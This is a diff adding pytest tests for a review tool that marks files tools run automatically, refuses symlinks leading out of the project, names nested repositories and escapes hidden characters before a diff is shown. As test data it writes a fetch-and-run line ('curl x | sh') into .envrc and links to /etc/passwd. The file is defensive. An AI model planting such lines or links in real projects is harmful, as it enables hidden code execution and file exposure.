@@ -1,0 +1,191 @@
+"""What a change set is shows before its diff: links, modes, repositories within, files that tools run by themselves."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from clawpy_console.printing.cards import lap
+from clawpy_console.printing.style import Style
+from engine.doors import wire
+from engine.execution.running_files import TABLE, runs_by_itself
+from engine.values import ChangeSet, FileChange, Refusal
+from tests.execution.landing_world import World
+
+pytestmark = pytest.mark.attack("review")
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> Iterator[World]:
+    world = World(tmp_path)
+    world.repository.commit("one", {"a.txt": "a\n", "d/f.txt": "f\n", "run.sh": "x\n"})
+    (world.root / "link").symlink_to("a.txt")
+    yield world
+    world.close()
+
+
+def changed(world: World, edit: Callable[[Path], object]) -> tuple[ChangeSet, dict[str, FileChange]]:
+    change_set = world.changed(lambda folder: edit(folder) and None)
+    return change_set, {file.path: file for file in change_set.files}
+
+
+def printed(change_set: ChangeSet) -> str:
+    """What `clawpy work` prints, which is all that many an operator looks at."""
+    document = {"prediction": None, "session": None, "changeSet": wire.change_set(change_set)}
+    return lap(json.loads(json.dumps(document)), {}, Style(False))
+
+
+RUN_BY_THEMSELVES = (
+    ".envrc", "sub/.envrc", ".vscode/tasks.json", ".vscode/settings.json", ".idea/runConfigurations/x.xml",
+    ".githooks/pre-commit", ".husky/pre-push", "conftest.py", "tests/Conftest.py", "setup.py", "package.json",
+    "web/package.json", "Makefile", "GNUmakefile", ".github/workflows/ci.yml", ".gitlab-ci.yml", "Jenkinsfile",
+    ".pre-commit-config.yaml", ".gitattributes", "sub/.gitattributes", ".gitmodules", "package-lock.json", "uv.lock",
+    ".npmrc", "pyproject.toml", "tox.ini", "sitecustomize.py", "evil.pth", ".claude/settings.json", ".mcp.json",
+    "AGENTS.md", "CLAUDE.md", "claude.local.md", ".devcontainer/devcontainer.json", "build.rs", ".cargo/config.toml",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("path", RUN_BY_THEMSELVES)
+def test_a_file_that_a_tool_runs_is_known(path: str) -> None:
+    assert runs_by_itself(path)
+
+
+@pytest.mark.parametrize("path", ["src/app.py", "README.md", "tests/test_setup.py", "docs/make.md", "envrc.txt"])
+def test_an_ordinary_file_is_not_marked(path: str) -> None:
+    assert runs_by_itself(path) == ""
+
+
+def test_each_row_says_who_runs_it_and_when() -> None:
+    assert all(len(row.says) > 10 and row.pattern == row.pattern.strip() for row in TABLE)
+    assert len({row.pattern for row in TABLE}) == len(TABLE)
+
+
+def test_files_that_run_by_themselves_are_marked_before_the_diff(world: World) -> None:
+    def edit(folder: Path) -> None:
+        (folder / ".envrc").write_text("curl x | sh\n")
+        (folder / ".vscode").mkdir()
+        (folder / ".vscode/tasks.json").write_text("{}\n")
+        (folder / "a.txt").rename(folder / "conftest.py")
+
+    change_set, files = changed(world, edit)
+    assert "direnv runs it" in files[".envrc"].note
+    assert "VS Code runs its tasks" in files[".vscode/tasks.json"].note
+    assert "pytest runs it" in files["conftest.py"].note
+    text = printed(change_set)
+    assert "direnv runs it" in text
+    assert "VS Code runs its tasks" in text
+
+
+@pytest.mark.parametrize("target", ["/etc/passwd", "../outside", "d/../../outside"])
+def test_a_link_that_leads_out_shows_its_target_and_is_refused(world: World, target: str) -> None:
+    change_set, files = changed(world, lambda folder: (folder / "notes").symlink_to(target))
+    assert files["notes"].note == f"a link to {target}"
+    assert "leads out of the project" in files["notes"].refused
+    assert "cannot be landed" in printed(change_set)
+    with pytest.raises(Refusal, match="leads out of the project"):
+        world.changes.land(change_set.id)
+
+
+def test_a_file_that_becomes_a_link_and_a_link_that_becomes_a_file(world: World) -> None:
+    def edit(folder: Path) -> None:
+        (folder / "a.txt").unlink()
+        (folder / "a.txt").symlink_to("d/f.txt")
+        (folder / "link").unlink()
+        (folder / "link").write_text("a\n")
+
+    change_set, files = changed(world, edit)
+    assert files["a.txt"].note == "a link to d/f.txt"
+    assert files["link"].note == "was a link to a.txt"
+    assert not any(file.refused for file in files.values())
+    assert "a link to d/f.txt" in printed(change_set)
+
+
+def test_a_link_with_control_characters_in_its_target(world: World) -> None:
+    change_set, files = changed(world, lambda folder: (folder / "x").symlink_to("d\x1b[2J\u202e/f\nlanded"))
+    assert files["x"].note == "a link to d\\x1b[2J\\u202e/f\\nlanded"
+    assert "\x1b[2J" not in printed(change_set)
+
+
+def test_modes_are_told(world: World) -> None:
+    def edit(folder: Path) -> None:
+        (folder / "run.sh").chmod(0o755)
+        (folder / "new.sh").write_text("x")
+        (folder / "new.sh").chmod(0o755)
+
+    _, files = changed(world, edit)
+    assert files["run.sh"].note == "mode 644 → 755, can be run now"
+    assert files["new.sh"].note == "executable"
+
+
+def test_a_nested_repository_is_named_and_stays_behind(world: World) -> None:
+    def edit(folder: Path) -> None:
+        (folder / "a.txt").write_text("b\n")
+        subprocess.run(["git", "init", "-q", "nested"], cwd=folder, check=True)
+        (folder / "nested/x").write_text("x")
+
+    change_set, files = changed(world, edit)
+    assert files["nested/"].status == "left out"
+    assert "a git repository of its own" in printed(change_set)
+    world.changes.land(change_set.id)
+    assert not (world.root / "nested").exists()
+
+
+def test_a_bare_repository_is_named(world: World) -> None:
+    def edit(folder: Path) -> None:
+        subprocess.run(["git", "init", "-q", "--bare", "data"], cwd=folder, check=True)
+        (folder / "data/hooks/post-checkout").write_text("#!/bin/sh\n")
+
+    _, files = changed(world, edit)
+    for path in ("data/HEAD", "data/config", "data/hooks/post-checkout"):
+        assert "a bare git repository" in files[path].note
+
+
+def test_a_submodule_is_named_and_refused(world: World) -> None:
+    def edit(folder: Path) -> None:
+        (folder / "d/f.txt").unlink()
+        (folder / "d").rmdir()
+        subprocess.run(["git", "init", "-q", "d"], cwd=folder, check=True)
+        identity = ["-c", "user.name=x", "-c", "user.email=x@localhost"]
+        subprocess.run(["git", *identity, "commit", "-q", "--allow-empty", "-m", "x"], cwd=folder / "d", check=True)
+        (folder / "a.txt").write_text("b\n")
+
+    change_set, files = changed(world, edit)
+    found = [file for path, file in files.items() if path.rstrip("/") == "d"]
+    assert all("submodule" in file.note or file.status == "left out" for file in found)
+    assert found
+    assert "git repository" in printed(change_set) or "submodule" in printed(change_set)
+
+
+NAMES = ("a\u202etxt.exe", "a\u200bb", "a\x1b[2Kb", "a\rb", "a\nb", "\ufeffa", "a\u2066b", "a\x7fb")
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_names_with_what_cannot_be_seen(world: World, name: str) -> None:
+    change_set, files = changed(world, lambda folder: (folder / name).write_text("x\n"))
+    (shown,) = files
+    assert shown.isprintable()
+    assert "\\" in shown
+    assert all(line.isprintable() for line in printed(change_set).splitlines())
+
+
+LINES = ("x\u202ey", "x\u2066y", "x\u200by", "x\x1b[1Ay", "x\x08y", "x\ry", "x\u2028y", "x\x9by")
+
+
+@pytest.mark.parametrize("line", LINES)
+def test_lines_with_what_cannot_be_seen(world: World, line: str) -> None:
+    change_set, _ = changed(world, lambda folder: (folder / "a.txt").write_bytes(f"{line}\n".encode()))
+    (diff,) = world.changes.diff(change_set.id)
+    assert "x<U+" in diff.hunks
+    assert all(one.isprintable() for one in diff.hunks.split("\n"))
+
+
+def test_a_very_long_line_says_that_it_is_cut(world: World) -> None:
+    change_set, _ = changed(world, lambda folder: (folder / "a.txt").write_text("x" * 50_000 + "\nafter\n"))
+    (diff,) = world.changes.diff(change_set.id)
+    assert "more characters in this line" in diff.hunks
+    assert "+after" in diff.hunks
+    assert max(map(len, diff.hunks.split("\n"))) < 1_100
